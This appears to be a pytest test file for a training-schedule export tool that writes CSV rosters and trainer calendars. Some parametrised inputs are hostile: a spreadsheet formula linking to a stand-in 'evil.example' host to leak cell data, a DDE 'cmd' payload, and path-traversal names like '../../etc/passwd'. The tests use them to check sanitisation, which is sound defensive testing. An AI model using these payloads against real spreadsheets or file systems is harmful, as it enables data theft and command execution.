@@ -1,0 +1,636 @@
+"""``trafficplan export``: rosters, schedule and calendars read back and compared with the plan.
+
+Most tests export a hand-built plan on the tiny instance (``datafactory.tiny``): alpha's
+session on Tue 2009-06-02 with t01 and alpha-ngo, beta's on Wed 2009-06-03 with t02 and
+beta-ngo, every officer of each region seated; the checker finds it valid.
+"""
+
+from __future__ import annotations
+
+import copy
+import csv
+import io
+import json
+from datetime import date, timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+from icalendar import Calendar
+from typer.testing import CliRunner
+
+from datafactory import tiny, write_data
+from trafficplan.checker import check_plan
+from trafficplan.cli import app
+from trafficplan.exports import (
+    ROSTER_HEADER,
+    SCHEDULE_HEADER,
+    build_export,
+    csv_bytes,
+    event_uid,
+    safe_cell,
+    safe_file_stem,
+    unique_file_stems,
+    write_export,
+)
+from trafficplan.inputs import load_data
+from trafficplan.plan import parse_plan
+
+runner = CliRunner()
+
+ALPHA_OFFICERS = [f"ALP-{i:04d}" for i in range(1, 21)]
+BETA_OFFICERS = [f"BET-{i:04d}" for i in range(1, 21)]
+
+
+def session(
+    ident: str, region: str, day: str, trainers: list[str], officers: list[str], ngo: str = ""
+) -> dict[str, Any]:
+    """A plan session at the region's only venue with its first NGO."""
+    return {
+        "id": ident,
+        "region": region,
+        "venue": f"{region}-hall",
+        "date": day,
+        "trainers": list(trainers),
+        "ngos": [ngo or f"{region}-ngo"],
+        "officers": list(officers),
+    }
+
+
+def plan_doc(*sessions: dict[str, Any]) -> dict[str, Any]:
+    """A plan document with these sessions."""
+    return {"format": "trafficplan-plan/1", "status": "feasible", "sessions": list(sessions)}
+
+
+def valid_plan() -> dict[str, Any]:
+    """The valid plan of the tiny instance described in the module docstring."""
+    return plan_doc(
+        session("alpha-01", "alpha", "2009-06-02", ["t01"], ALPHA_OFFICERS),
+        session("beta-01", "beta", "2009-06-03", ["t02"], BETA_OFFICERS),
+    )
+
+
+def write_json(path: Path, document: dict[str, Any]) -> Path:
+    """Write a plan document as JSON."""
+    path.write_text(json.dumps(document), encoding="utf-8")
+    return path
+
+
+def export(tmp_path: Path, data_dir: Path, document: dict[str, Any], *extra: str) -> Any:
+    """Run ``trafficplan export`` of ``document`` into ``tmp_path/out``."""
+    plan_file = write_json(tmp_path / "plan.json", document)
+    args = ["export", str(plan_file), "--out", str(tmp_path / "out"), "--data", str(data_dir)]
+    return runner.invoke(app, [*args, *extra])
+
+
+def read_csv(path: Path) -> list[dict[str, str]]:
+    """A CSV export read back as a spreadsheet would (BOM stripped, quoted newlines kept)."""
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+def read_events(path: Path) -> dict[str, Any]:
+    """The events of an exported calendar, by UID."""
+    calendar = Calendar.from_ical(path.read_bytes())
+    return {str(event["UID"]): event for event in calendar.walk("VEVENT")}
+
+
+def with_gamma(data: dict[str, Any]) -> dict[str, Any]:
+    """The tiny instance plus a region gamma that may have no session at all."""
+    data["regions"]["regions"].append(
+        {
+            "id": "gamma",
+            "name": "Gamma",
+            "centre": {"city": "Gamma City", "lat": 50.5, "lon": 30.4},
+            "districts": ["gamma-central"],
+            "sessions": {"min": 0, "max": 1},
+            "venues": [{"id": "gamma-hall", "name": "Gamma Hall", "capacity": 20}],
+            "ngos": [{"id": "gamma-ngo", "name": "Gamma NGO"}],
+        }
+    )
+    return data
+
+
+def test_the_hand_built_plan_is_valid(tiny_folder: Path) -> None:
+    data = load_data(tiny_folder)
+    report = check_plan(data, parse_plan(valid_plan()))
+    assert report.valid, [v.message for v in report.violations]
+
+
+def test_export_files_match_the_plan(tmp_path: Path) -> None:
+    data_dict = with_gamma(tiny())
+    data_dict["regions"]["regions"][0]["venues"][0]["address"] = "vul. Shevchenka 1, Alpha City"
+    data_dir = write_data(tmp_path / "data", data_dict)
+    data = load_data(data_dir)
+    assert check_plan(data, parse_plan(valid_plan())).valid
+
+    result = export(tmp_path, data_dir, valid_plan())
+
+    assert result.exit_code == 0, result.output
+    out = tmp_path / "out"
+    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()) == [
+        "calendars/t01.ics",
+        "calendars/t02.ics",
+        "rosters/alpha.csv",
+        "rosters/beta.csv",
+        "rosters/gamma.csv",
+        "schedule.csv",
+    ]
+
+    alpha = read_csv(out / "rosters" / "alpha.csv")
+    assert list(alpha[0]) == list(ROSTER_HEADER)
+    assert [row["officer_id"] for row in alpha] == ALPHA_OFFICERS
+    for row in alpha:
+        officer = data.officer_by_id[row["officer_id"]]
+        assert row == {
+            "session_id": "alpha-01",
+            "date": "2009-06-02",
+            "venue": "alpha-hall",
+            "officer_id": officer.id,
+            "officer_name": officer.name,
+            "district": officer.district,
+        }
+    assert [row["officer_id"] for row in read_csv(out / "rosters" / "beta.csv")] == BETA_OFFICERS
+    # A region without sessions still gets its roster: the header alone.
+    assert (out / "rosters" / "gamma.csv").read_bytes() == (
+        b"\xef\xbb\xbfsession_id,date,venue,officer_id,officer_name,district\r\n"
+    )
+
+    schedule = read_csv(out / "schedule.csv")
+    assert list(schedule[0]) == list(SCHEDULE_HEADER)
+    assert schedule == [
+        {
+            "session_id": "alpha-01",
+            "date": "2009-06-02",
+            "weekday": "Tue",
+            "region": "alpha",
+            "venue": "alpha-hall",
+            "trainers": "t01",
+            "ngos": "alpha-ngo",
+            "officers": "20",
+        },
+        {
+            "session_id": "beta-01",
+            "date": "2009-06-03",
+            "weekday": "Wed",
+            "region": "beta",
+            "venue": "beta-hall",
+            "trainers": "t02",
+            "ngos": "beta-ngo",
+            "officers": "20",
+        },
+    ]
+
+    calendar = Calendar.from_ical((out / "calendars" / "t01.ics").read_bytes())
+    assert str(calendar["VERSION"]) == "2.0"
+    assert str(calendar["PRODID"]).startswith("-//trafficplan//")
+    assert str(calendar["CALSCALE"]) == "GREGORIAN"
+    assert str(calendar["METHOD"]) == "PUBLISH"
+    assert "Olena Kovalenko" in str(calendar["X-WR-CALNAME"])
+    events = calendar.walk("VEVENT")
+    assert len(events) == 1
+    event = events[0]
+    assert str(event["UID"]) == "alpha-01@trafficplan" == event_uid("alpha-01")
+    assert event.decoded("DTSTART") == date(2009, 6, 2)
+    assert event.decoded("DTEND") == date(2009, 6, 3)
+    assert event["DTSTART"].params.get("VALUE") == "DATE"
+    assert "Alpha" in str(event["SUMMARY"]) and "Alpha Hall" in str(event["SUMMARY"])
+    description = str(event["DESCRIPTION"])
+    for expected in (
+        "Alpha",
+        "Alpha Hall, vul. Shevchenka 1, Alpha City",
+        "Alpha Women's Centre",
+        "Officers: 20",
+        "alpha-01",
+    ):
+        assert expected in description
+    assert str(event["LOCATION"]) == "Alpha Hall, vul. Shevchenka 1, Alpha City"
+    assert (event["GEO"].latitude, event["GEO"].longitude) == data.venue_point("alpha-hall")
+    assert int(event["SEQUENCE"]) == 0
+    assert str(event["STATUS"]) == "CONFIRMED"
+    assert "DTSTAMP" in event
+    assert list(read_events(out / "calendars" / "t02.ics")) == ["beta-01@trafficplan"]
+
+
+def test_csv_files_are_utf8_with_bom_and_crlf(tmp_path: Path, tiny_folder: Path) -> None:
+    assert export(tmp_path, tiny_folder, valid_plan()).exit_code == 0
+    for path in [tmp_path / "out" / "schedule.csv", *(tmp_path / "out" / "rosters").iterdir()]:
+        raw = path.read_bytes()
+        assert raw.startswith(b"\xef\xbb\xbf"), path
+        assert raw.count(b"\r\n") == raw.count(b"\n"), path
+        assert raw.endswith(b"\r\n")
+
+
+def test_cyrillic_names_round_trip(tmp_path: Path) -> None:
+    data_dict = tiny()
+    data_dict["officers"][0]["name"] = "Ґалина Їжакевич-Щербань"
+    data_dir = write_data(tmp_path / "data", data_dict)
+
+    assert export(tmp_path, data_dir, valid_plan()).exit_code == 0
+
+    raw = (tmp_path / "out" / "rosters" / "alpha.csv").read_bytes()
+    assert "Ґалина Їжакевич-Щербань".encode() in raw
+    names = {row["officer_id"]: row["officer_name"] for row in read_csv(raw_path(tmp_path))}
+    assert names["ALP-0001"] == "Ґалина Їжакевич-Щербань"
+    assert names["ALP-0002"] == "Офіцер ALP 2"
+
+
+def raw_path(tmp_path: Path) -> Path:
+    """Alpha's roster in the export folder."""
+    return tmp_path / "out" / "rosters" / "alpha.csv"
+
+
+def test_quotes_commas_and_newlines_in_names_survive(tmp_path: Path) -> None:
+    tricky = {
+        0: 'Kovalenko, Olena "Olia"',
+        1: "Shevchenko\nPetro",
+        2: 'a,"b",\r\nc',
+    }
+    data_dict = tiny()
+    for index, name in tricky.items():
+        data_dict["officers"][index]["name"] = name
+    data_dir = write_data(tmp_path / "data", data_dict)
+    data = load_data(data_dir)
+
+    assert export(tmp_path, data_dir, valid_plan()).exit_code == 0
+
+    names = {row["officer_id"]: row["officer_name"] for row in read_csv(raw_path(tmp_path))}
+    for index in tricky:
+        officer = data.officers[index]
+        assert names[officer.id] == officer.name
+    assert len(names) == 20
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-2", "@SUM(A1:A9)"],
+)
+def test_formula_names_are_neutralised_in_rosters(tmp_path: Path, name: str) -> None:
+    data_dict = tiny()
+    data_dict["officers"][0]["name"] = name
+    data_dir = write_data(tmp_path / "data", data_dict)
+
+    assert export(tmp_path, data_dir, valid_plan()).exit_code == 0
+
+    names = {row["officer_id"]: row["officer_name"] for row in read_csv(raw_path(tmp_path))}
+    assert names["ALP-0001"] == "'" + name
+
+
+def test_formula_officer_id_is_neutralised(tmp_path: Path) -> None:
+    data_dict = tiny()
+    data_dict["officers"][0]["id"] = "=1+1"
+    data_dir = write_data(tmp_path / "data", data_dict)
+    document = valid_plan()
+    document["sessions"][0]["officers"][0] = "=1+1"
+
+    assert export(tmp_path, data_dir, document).exit_code == 0
+
+    ids = [row["officer_id"] for row in read_csv(raw_path(tmp_path))]
+    assert "'=1+1" in ids and "=1+1" not in ids
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+        ("+1", "'+1"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTAB", "'\tTAB"),
+        ("\rCR", "'\rCR"),
+        ("2009-06-02", "2009-06-02"),
+        ("a=b", "a=b"),
+        ("Олена", "Олена"),
+        ("", ""),
+        (None, ""),
+        (20, "20"),
+    ],
+)
+def test_safe_cell(value: object, expected: str) -> None:
+    assert safe_cell(value) == expected
+
+
+def test_csv_bytes_neutralises_and_quotes_every_cell() -> None:
+    raw = csv_bytes(["h,1", "=h2"], [["\tx", "\ry"], ['say "hi"', "line\nbreak"]])
+    assert raw.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    assert rows == [["h,1", "'=h2"], ["'\tx", "'\ry"], ['say "hi"', "line\nbreak"]]
+
+
+@pytest.mark.parametrize(
+    "identifier",
+    [
+        "../../etc/passwd",
+        "..\\..\\windows\\system32",
+        "/etc/passwd",
+        ".hidden",
+        "..",
+        ".",
+        "",
+        "-rf",
+        "a/b",
+        "C:\\x",
+        "name\x00with-nul",
+        "тренер",
+        "x" * 500,
+    ],
+)
+def test_safe_file_stem_cannot_escape_or_hide(identifier: str) -> None:
+    stem = safe_file_stem(identifier)
+    assert stem
+    assert "/" not in stem and "\\" not in stem and ".." not in stem and "\x00" not in stem
+    assert not stem.startswith((".", "-", "_"))
+    assert len(stem) <= 64
+    assert all(ch.isascii() and (ch.isalnum() or ch in "-_") for ch in stem)
+
+
+def test_safe_file_stem_keeps_plain_ids_and_renames_device_names() -> None:
+    assert safe_file_stem("t01") == "t01"
+    assert safe_file_stem("khmelnytskyi") == "khmelnytskyi"
+    assert safe_file_stem("../../etc/passwd") == "etc-passwd"
+    assert safe_file_stem("CON") == "CON_"
+    assert safe_file_stem("com1") == "com1_"
+
+
+def test_unique_file_stems_are_distinct_ignoring_case_and_order_free() -> None:
+    ids = ["T01", "t01", "a.b", "a-b", "a/b", "c", "../c"]
+    stems = unique_file_stems(ids)
+    assert len({stem.lower() for stem in stems.values()}) == len(ids)
+    assert stems["c"] != stems["../c"]
+    assert unique_file_stems(reversed(ids)) == stems
+    assert unique_file_stems(["t01", "t02"]) == {"t01": "t01", "t02": "t02"}
+
+
+def test_tricky_trainer_ids_give_safe_distinct_calendar_names(tmp_path: Path) -> None:
+    data_dict = tiny()
+    first, second = data_dict["trainers"]["trainers"]
+    first["id"], second["id"] = "x..y", "CON"
+    data_dict["trainers"]["trainers"].append(
+        {**copy.deepcopy(second), "id": "con", "name": "Other"}
+    )
+    data_dir = write_data(tmp_path / "data", data_dict)
+    document = plan_doc(
+        session("alpha-01", "alpha", "2009-06-02", ["x..y"], ALPHA_OFFICERS),
+        session("beta-01", "beta", "2009-06-03", ["CON"], BETA_OFFICERS),
+    )
+
+    result = export(tmp_path, data_dir, document)
+
+    assert result.exit_code == 0, result.output
+    calendars = sorted(path.name for path in (tmp_path / "out" / "calendars").iterdir())
+    stems = unique_file_stems(["x..y", "CON", "con"])
+    assert calendars == sorted([f"{stems['x..y']}.ics", f"{stems['CON']}.ics"])
+    assert stems["x..y"] == "x-y"
+    assert stems["CON"].startswith("CON_-")
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["data", "out", "plan.json"]
+    assert list(read_events(tmp_path / "out" / "calendars" / f"{stems['CON']}.ics")) == [
+        "beta-01@trafficplan"
+    ]
+
+
+def test_reexport_keeps_uids_and_bytes(tmp_path: Path, tiny_folder: Path) -> None:
+    assert export(tmp_path, tiny_folder, valid_plan()).exit_code == 0
+    calendars = tmp_path / "out" / "calendars"
+    before = {path.name: path.read_bytes() for path in calendars.iterdir()}
+
+    result = export(tmp_path, tiny_folder, valid_plan(), "--json")
+
+    assert result.exit_code == 0, result.output
+    assert {path.name: path.read_bytes() for path in calendars.iterdir()} == before
+    assert {item["status"] for item in json.loads(result.stdout)["files"]} == {"unchanged"}
+    assert list(read_events(calendars / "t01.ics")) == ["alpha-01@trafficplan"]
+
+
+def replanned() -> dict[str, Any]:
+    """The valid plan after a re-plan: alpha moved to t02, beta moved to Thursday."""
+    return plan_doc(
+        session("alpha-01", "alpha", "2009-06-02", ["t02"], ALPHA_OFFICERS),
+        session("beta-01", "beta", "2009-06-04", ["t02"], BETA_OFFICERS),
+    )
+
+
+def test_reexport_after_replan_cancels_and_bumps_sequence(
+    tmp_path: Path, tiny_folder: Path
+) -> None:
+    data = load_data(tiny_folder)
+    assert check_plan(data, parse_plan(replanned())).valid
+    assert export(tmp_path, tiny_folder, valid_plan()).exit_code == 0
+
+    result = export(tmp_path, tiny_folder, replanned())
+
+    assert result.exit_code == 0, result.output
+    calendars = tmp_path / "out" / "calendars"
+    old_trainer = read_events(calendars / "t01.ics")
+    assert list(old_trainer) == ["alpha-01@trafficplan"]
+    cancelled = old_trainer["alpha-01@trafficplan"]
+    assert str(cancelled["STATUS"]) == "CANCELLED"
+    assert int(cancelled["SEQUENCE"]) == 1
+    assert cancelled.decoded("DTSTART") == date(2009, 6, 2)
+
+    new_trainer = read_events(calendars / "t02.ics")
+    assert set(new_trainer) == {"alpha-01@trafficplan", "beta-01@trafficplan"}
+    assert int(new_trainer["alpha-01@trafficplan"]["SEQUENCE"]) == 0
+    moved = new_trainer["beta-01@trafficplan"]
+    assert moved.decoded("DTSTART") == date(2009, 6, 4)
+    assert moved.decoded("DTEND") == date(2009, 6, 4) + timedelta(days=1)
+    assert int(moved["SEQUENCE"]) == 1
+    assert str(moved["STATUS"]) == "CONFIRMED"
+
+    # A third export of the same plan changes nothing: the cancellation is not re-announced.
+    before = (calendars / "t01.ics").read_bytes()
+    assert export(tmp_path, tiny_folder, replanned()).exit_code == 0
+    assert (calendars / "t01.ics").read_bytes() == before
+
+
+def test_session_back_to_its_trainer_is_confirmed_with_higher_sequence(
+    tmp_path: Path, tiny_folder: Path
+) -> None:
+    for document in (valid_plan(), replanned(), valid_plan()):
+        assert export(tmp_path, tiny_folder, document).exit_code == 0
+    event = read_events(tmp_path / "out" / "calendars" / "t01.ics")["alpha-01@trafficplan"]
+    assert str(event["STATUS"]) == "CONFIRMED"
+    assert int(event["SEQUENCE"]) == 2
+    assert not str(event["SUMMARY"]).startswith("Cancelled")
+
+
+def test_unknown_ids_exit_3_and_write_nothing(tmp_path: Path, tiny_folder: Path) -> None:
+    document = valid_plan()
+    document["sessions"][0]["trainers"] = ["t99"]
+
+    result = export(tmp_path, tiny_folder, document)
+
+    assert result.exit_code == 3
+    assert "unknown trainer 't99'" in result.output
+    assert "Traceback" not in result.output
+    assert not (tmp_path / "out").exists()
+
+
+def rule_breaking_plan() -> dict[str, Any]:
+    """The valid plan with alpha's session on a Saturday (breaks ``calendar``)."""
+    document = valid_plan()
+    document["sessions"][0]["date"] = "2009-06-06"
+    return document
+
+
+def test_rule_breaking_plan_is_refused_without_force(tmp_path: Path, tiny_folder: Path) -> None:
+    result = export(tmp_path, tiny_folder, rule_breaking_plan())
+
+    assert result.exit_code == 1
+    assert "calendar" in result.output
+    assert "alpha-01" in result.output
+    assert "use --force to export anyway" in result.output
+    assert not (tmp_path / "out").exists()
+
+
+def test_rule_breaking_plan_exports_with_force(tmp_path: Path, tiny_folder: Path) -> None:
+    result = export(tmp_path, tiny_folder, rule_breaking_plan(), "--force", "--json")
+
+    assert result.exit_code == 0, result.output
+    report = json.loads(result.stdout)
+    assert report["forced"] is True and report["violations"] >= 1
+    schedule = read_csv(tmp_path / "out" / "schedule.csv")
+    assert [(row["session_id"], row["weekday"]) for row in schedule] == [
+        ("beta-01", "Wed"),
+        ("alpha-01", "Sat"),
+    ]
+
+
+def test_json_lists_every_file(tmp_path: Path, tiny_folder: Path) -> None:
+    result = export(tmp_path, tiny_folder, valid_plan(), "--json")
+
+    assert result.exit_code == 0, result.output
+    report = json.loads(result.stdout)
+    files = {item["path"]: item for item in report["files"]}
+    assert set(files) == {
+        "rosters/alpha.csv",
+        "rosters/beta.csv",
+        "schedule.csv",
+        "calendars/t01.ics",
+        "calendars/t02.ics",
+    }
+    assert files["rosters/alpha.csv"]["rows"] == 20
+    assert files["schedule.csv"]["rows"] == 2
+    assert files["calendars/t01.ics"]["events"] == 1
+    assert files["calendars/t01.ics"]["subject"] == "t01"
+    assert {item["status"] for item in report["files"]} == {"new"}
+    assert report["violations"] == 0 and report["forced"] is False
+
+
+def test_human_output_names_the_files(tmp_path: Path, tiny_folder: Path) -> None:
+    result = export(tmp_path, tiny_folder, valid_plan())
+
+    assert result.exit_code == 0, result.output
+    for expected in ("rosters/alpha.csv", "schedule.csv", "calendars/t02.ics", "20 rows"):
+        assert expected in result.stdout
+    assert "5 file(s) written" in result.stdout
+
+
+def test_failure_midway_keeps_previous_files_and_says_what_was_written(
+    tmp_path: Path, tiny_folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert export(tmp_path, tiny_folder, valid_plan()).exit_code == 0
+    out = tmp_path / "out"
+    before = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}
+
+    import trafficplan.exports.bundle as bundle
+
+    real_write = bundle.write_bytes_atomic
+    calls: list[Path] = []
+
+    def failing_write(path: Path, data: bytes) -> None:
+        calls.append(path)
+        if len(calls) == 3:
+            raise OSError(28, "No space left on device")
+        real_write(path, data)
+
+    monkeypatch.setattr(bundle, "write_bytes_atomic", failing_write)
+    result = export(tmp_path, tiny_folder, replanned())
+
+    assert result.exit_code == 2
+    assert "No space left on device" in result.output
+    assert "written before the failure (2)" in result.output
+    assert "Traceback" not in result.output
+    after = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}
+    assert set(after) == set(before)  # no temp file left behind
+    failed = calls[2]
+    assert after[failed] == before[failed]
+    for untouched in set(before) - set(calls):
+        assert after[untouched] == before[untouched]
+    for written in calls[:2]:
+        assert after[written] != before[written]
+
+
+def test_unreadable_previous_calendar_exits_3_before_writing(
+    tmp_path: Path, tiny_folder: Path
+) -> None:
+    calendars = tmp_path / "out" / "calendars"
+    calendars.mkdir(parents=True)
+    (calendars / "t01.ics").write_bytes(b"\x00\xffthis is not a calendar")
+
+    result = export(tmp_path, tiny_folder, valid_plan())
+
+    assert result.exit_code == 3
+    assert "t01.ics" in result.output
+    assert "Traceback" not in result.output
+    assert not (tmp_path / "out" / "schedule.csv").exists()
+
+
+def test_calendar_of_a_trainer_without_sessions_now_is_kept_up_to_date(
+    tmp_path: Path, tiny_folder: Path
+) -> None:
+    assert export(tmp_path, tiny_folder, valid_plan()).exit_code == 0
+    only_beta_by_t02 = plan_doc(session("beta-01", "beta", "2009-06-03", ["t02"], BETA_OFFICERS))
+
+    result = export(tmp_path, tiny_folder, only_beta_by_t02, "--force", "--json")
+
+    assert result.exit_code == 0, result.output
+    paths = {item["path"] for item in json.loads(result.stdout)["files"]}
+    assert "calendars/t01.ics" in paths
+    event = read_events(tmp_path / "out" / "calendars" / "t01.ics")["alpha-01@trafficplan"]
+    assert str(event["STATUS"]) == "CANCELLED"
+
+
+def test_calendars_of_no_trainer_in_the_data_are_left_alone(
+    tmp_path: Path, tiny_folder: Path
+) -> None:
+    calendars = tmp_path / "out" / "calendars"
+    calendars.mkdir(parents=True)
+    (calendars / "t77.ics").write_bytes(b"keep me")
+
+    result = export(tmp_path, tiny_folder, valid_plan())
+
+    assert result.exit_code == 0, result.output
+    assert (calendars / "t77.ics").read_bytes() == b"keep me"
+    assert "calendars/t77.ics" in result.output
+
+
+def test_out_that_is_a_file_is_a_usage_error(tmp_path: Path, tiny_folder: Path) -> None:
+    (tmp_path / "out").write_text("not a folder")
+
+    result = export(tmp_path, tiny_folder, valid_plan())
+
+    assert result.exit_code == 2
+    assert "not a folder" in result.output
+
+
+def test_missing_plan_file_exits_3(tmp_path: Path, tiny_folder: Path) -> None:
+    args = ["export", str(tmp_path / "nope.json"), "--out", str(tmp_path / "out")]
+    result = runner.invoke(app, [*args, "--data", str(tiny_folder)])
+
+    assert result.exit_code == 3
+    assert "plan file not found" in result.output
+
+
+def test_library_build_is_deterministic_for_a_fixed_time(tiny_folder: Path, tmp_path: Path) -> None:
+    from datetime import UTC, datetime
+
+    data = load_data(tiny_folder)
+    plan = parse_plan(valid_plan())
+    moment = datetime(2009, 5, 1, 12, 0, tzinfo=UTC)
+    first = build_export(data, plan, tmp_path / "out", now=moment)
+    second = build_export(data, plan, tmp_path / "out", now=moment)
+    assert [(f.path, f.content) for f in first.files] == [(f.path, f.content) for f in second.files]
+    written = write_export(first, tmp_path / "out")
+    assert [item.status for item in written] == ["new"] * 5
+    event = read_events(tmp_path / "out" / "calendars" / "t01.ics")["alpha-01@trafficplan"]
+    assert event.decoded("DTSTAMP") == moment
